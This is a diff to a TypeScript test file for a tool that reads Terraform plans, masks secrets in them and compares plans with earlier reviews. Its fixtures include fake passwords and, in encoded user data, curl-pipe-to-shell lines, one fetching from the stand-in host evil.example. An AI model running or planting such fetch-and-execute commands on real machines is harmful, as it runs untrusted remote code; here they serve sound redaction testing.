@@ -1,8 +1,12 @@
+import { gzipSync } from 'node:zlib'
 import { describe, expect, test } from '@jest/globals'
 import fc from 'fast-check'
 import { runs, seed } from '#test/repetitions.ts'
 import { SENSITIVE, SENSITIVE_CHANGED, UNKNOWN } from '#toolkit/model/change.ts'
 import { makePlan, Plan } from '#toolkit/model/plan.ts'
+import { compareWithReview, reviewOf } from '#toolkit/model/review.ts'
+import { Sensitive } from '#toolkit/model/sensitive.ts'
+import { masked } from '#toolkit/redact/test/masked.ts'
 import { planSection } from '#toolkit/report/comment.ts'
 import { planText } from '#toolkit/report/log.ts'
 import { planSummary } from '#toolkit/report/summary.ts'
@@ -22,20 +26,24 @@ function resource(parts: Partial<ResourceChange> & Pick<ResourceChange, 'change'
 }
 
 function only(parts: Partial<ResourceChange> & Pick<ResourceChange, 'change'>) {
-  const [change, ...rest] = plannedChanges({ resource_changes: [resource(parts)] }, 's', nowhere)
+  const { changes } = plannedChanges({ resource_changes: [resource(parts)] }, 's', nowhere)
+  const [change, ...rest] = changes
   expect(rest).toEqual([])
   return change
 }
 
 function planOf(json: PlanJson) {
+  const { changes, sensitive } = plannedChanges(json, 's', nowhere)
   return makePlan({
     step: 'provision',
     target: 'stacks',
     createdAt: new Date('2026-11-24T09:30:00Z'),
-    changes: plannedChanges(json, 's', nowhere),
+    changes,
+    sensitive: new Sensitive(sensitive),
     parts: [{ name: 's', status: 'planned' }],
-    inputs: {},
-    sources: {},
+    where: {},
+    with: {},
+    from: {},
   })
 }
 
@@ -160,7 +168,7 @@ describe("Terraform's plan as changes", () => {
       ],
       output_changes: { x: { actions: ['no-op'], before: 1, after: 1 } },
     }
-    expect(plannedChanges(json, 's', nowhere)).toEqual([])
+    expect(plannedChanges(json, 's', nowhere).changes).toEqual([])
   })
 
   test('tells drift apart, and what is tainted', () => {
@@ -201,6 +209,211 @@ describe("Terraform's plan as changes", () => {
     )
   })
 
+  const user = (text: string) => Buffer.from(text).toString('base64')
+  const zipped = (text: string) => gzipSync(text).toString('base64')
+  const script = (host: string) => `#!/bin/sh\ncurl -fsS https://${host}/install.sh | sh\n`
+  const showing = { repositoryId: '1', pullRequest: 1, commit: 'c', run: '1', salt: '00'.repeat(16) }
+  const created = (after: object, more: object = {}) => ({
+    resource_changes: [resource({ change: { actions: ['create'], before: null, after, ...more } })],
+  })
+
+  test.each<[what: string, one: PlanJson, other: PlanJson]>([
+    [
+      'a value that its provider marks',
+      created({ v: 'one-one' }, { after_sensitive: { v: true } }),
+      created({ v: 'two-two' }, { after_sensitive: { v: true } }),
+    ],
+    [
+      'a marked value deep within',
+      created({ l: [{ v: 1 }] }, { after_sensitive: { l: [{ v: true }] } }),
+      created({ l: [{ v: 2 }] }, { after_sensitive: { l: [{ v: true }] } }),
+    ],
+    [
+      'a password by its name',
+      created({ password: 'hunter2hunter2' }),
+      created({ password: 'hunter3hunter3' }),
+    ],
+    [
+      'what looks random',
+      created({ note: 'q7Wz8vLx2KpN4tRb9YcF1mJd' }),
+      created({ note: 'q7Wz8vLx2KpN4tRb9YcF1mJe' }),
+    ],
+    [
+      'the password in a URL',
+      created({ x: 'postgres://app:s3cr3t-pw@db/app' }),
+      created({ x: 'postgres://app:0ther-pw@db/app' }),
+    ],
+    [
+      'a secret in JSON in a text',
+      created({ x: '{"token":"tok-12345"}' }),
+      created({ x: '{"token":"tok-54321"}' }),
+    ],
+    [
+      'a pair of user and password that is wrapped',
+      created({ auth: user('user:password-1') }),
+      created({ auth: user('user:password-2') }),
+    ],
+    [
+      'user data',
+      created({ user_data: user(script('a.example')) }),
+      created({ user_data: user(script('b.example')) }),
+    ],
+    [
+      'user data that is packed',
+      created({ user_data: zipped(script('a.example')) }),
+      created({ user_data: zipped(script('b.example')) }),
+    ],
+    [
+      'how user data is wrapped, when it says the same',
+      created({ user_data: user(script('a.example')) }),
+      created({ user_data: zipped(script('a.example')) }),
+    ],
+    [
+      'a marked value that is replaced by another one',
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['update'],
+              before: { p: 'a-a-a-a' },
+              after: { p: 'b-b-b-b' },
+              before_sensitive: { p: true },
+              after_sensitive: { p: true },
+            },
+          }),
+        ],
+      },
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['update'],
+              before: { p: 'a-a-a-a' },
+              after: { p: 'c-c-c-c' },
+              before_sensitive: { p: true },
+              after_sensitive: { p: true },
+            },
+          }),
+        ],
+      },
+    ],
+    [
+      'the old one of two marked values',
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['update'],
+              before: { p: 'a-a-a-a' },
+              after: { p: 'b-b-b-b' },
+              before_sensitive: { p: true },
+              after_sensitive: { p: true },
+            },
+          }),
+        ],
+      },
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['update'],
+              before: { p: 'c-c-c-c' },
+              after: { p: 'b-b-b-b' },
+              before_sensitive: { p: true },
+              after_sensitive: { p: true },
+            },
+          }),
+        ],
+      },
+    ],
+    [
+      'a marked output',
+      {
+        output_changes: { o: { actions: ['create'], before: null, after: 'one-one', after_sensitive: true } },
+      },
+      {
+        output_changes: { o: { actions: ['create'], before: null, after: 'two-two', after_sensitive: true } },
+      },
+    ],
+  ])('%s counts, whether it is shown or not', async (_what, one, other) => {
+    const review = await reviewOf(planOf(one), showing)
+    expect((await compareWithReview(planOf(one), review)).verdict).toBe('equal')
+    expect((await compareWithReview(planOf(other), review)).verdict).toBe('different')
+  })
+
+  test('a marked value that stays as it is does not count, because nothing is done to it', () => {
+    const { sensitive } = plannedChanges(
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['update'],
+              before: { p: 'a', n: 1 },
+              after: { p: 'a', n: 2 },
+              before_sensitive: { p: true },
+              after_sensitive: { p: true },
+            },
+          }),
+        ],
+      },
+      's',
+      nowhere,
+    )
+    expect(sensitive).toEqual([])
+  })
+
+  test('a guess hides its own place and nothing else, in the same attribute, the same change and the whole plan', () => {
+    const { changes, guesses } = plannedChanges(
+      {
+        resource_changes: [
+          resource({
+            change: {
+              actions: ['create'],
+              before: null,
+              after: {
+                tags: { password: '0.0.0.0/0', token: 'evil.example' },
+                cidr_blocks: ['0.0.0.0/0'],
+                policy: '{"secret":"0.0.0.0/0","cidr":"0.0.0.0/0"}',
+                user_data: user('PASSWORD=evil.example\ncurl evil.example | sh\n'),
+              },
+            },
+          }),
+          resource({
+            address: 'aws_x.y',
+            change: { actions: ['create'], before: null, after: { host: 'evil.example' } },
+          }),
+        ],
+      },
+      's',
+      nowhere,
+    )
+    expect(changes.map(({ after }) => after)).toEqual([
+      {
+        tags: { password: SENSITIVE, token: SENSITIVE },
+        cidr_blocks: ['0.0.0.0/0'],
+        policy: `{"secret":"${SENSITIVE}","cidr":"0.0.0.0/0"}`,
+        user_data: `PASSWORD=${SENSITIVE}\ncurl evil.example | sh\n`,
+      },
+      { host: 'evil.example' },
+    ])
+    expect([...guesses].sort()).toEqual(['0.0.0.0/0', 'evil.example'])
+    // Only what its provider marks is masked wherever it stands.
+    expect(sensitiveValues({ resource_changes: [] })).toEqual([])
+  })
+
+  test('user data is shown as what it says', () => {
+    for (const wrapped of [
+      user(script('a.example')),
+      zipped(script('a.example')),
+      user(zipped(script('a.example'))),
+    ])
+      expect(
+        only({ change: { actions: ['create'], before: null, after: { user_data: wrapped } } })?.after,
+      ).toEqual({
+        user_data: script('a.example'),
+      })
+  })
+
   test('an output that nobody marked does not tell a password either', () => {
     const json: PlanJson = {
       output_changes: {
@@ -210,10 +423,9 @@ describe("Terraform's plan as changes", () => {
         outputs: { database_url: { sensitive: false, value: 'postgres://app:hunter2hunter2@db/app' } },
       },
     }
-    expect(sensitiveValues(json)).toContain('hunter2hunter2')
-    expect(JSON.stringify([plannedChanges(json, 's', nowhere), plannedOutputs(json)])).not.toContain(
-      'hunter2',
-    )
+    const { changes, guesses } = plannedChanges(json, 's', nowhere)
+    expect(guesses).toEqual(['hunter2hunter2'])
+    expect(JSON.stringify([changes, plannedOutputs(json)])).not.toContain('hunter2')
     expect(plannedOutputs(json)).toEqual({ database_url: `postgres://app:${SENSITIVE}@db/app` })
   })
 })
@@ -349,12 +561,12 @@ describe('any plan', () => {
         const made = planOf(plan)
         Plan.parse(made)
         const revision = { repositoryUrl: 'https://github.com/o/n', commit: '0'.repeat(40) }
-        const section = planSection(made, revision)
+        const section = planSection(masked(made), revision)
         const shown = [
           section.summary,
           section.details,
-          planSummary(made, revision),
-          planText(made),
+          planSummary(masked(made), revision),
+          planText(masked(made)),
           JSON.stringify(made),
           JSON.stringify(plannedOutputs(plan)),
           JSON.stringify(driftOf({ resource_drift: plan.resource_changes ?? [] }, 's', nowhere)),
@@ -386,20 +598,21 @@ describe('any plan', () => {
       step: 'provision',
       target: 'stacks',
       createdAt: new Date('2026-11-24T09:30:00Z'),
-      changes: changes.flatMap((each, index) =>
-        plannedChanges({ resource_changes: [each] }, all[index % 300] ?? '', nowhere),
-      ),
+      changes: changes.flatMap((each, index) => [
+        ...plannedChanges({ resource_changes: [each] }, all[index % 300] ?? '', nowhere).changes,
+      ]),
       parts: all.map((each) => ({ name: each, status: 'planned' as const })),
-      inputs: {},
-      sources: {},
+      where: {},
+      with: {},
+      from: {},
     })
-    const { summary, details } = planSection(plan)
+    const { summary, details } = planSection(masked(plan))
     expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(16_000)
     expect(Buffer.byteLength(details)).toBeLessThanOrEqual(40_000)
-    expect(Buffer.byteLength(planSummary(plan))).toBeLessThanOrEqual(1 << 20)
+    expect(Buffer.byteLength(planSummary(masked(plan)))).toBeLessThanOrEqual(1 << 20)
     expect(summary).toMatch(/\| <code>stack-\d+<\/code> \| .*to replace/)
     expect(summary).toMatch(/… and \d+ more/)
-    for (const text of [summary, details, planSummary(plan)]) {
+    for (const text of [summary, details, planSummary(masked(plan))]) {
       expect(text.isWellFormed()).toBe(true)
       // Every fence and every folded section that is opened is closed.
       expect((text.match(/^`{3,}/gm)?.length ?? 0) % 2).toBe(0)
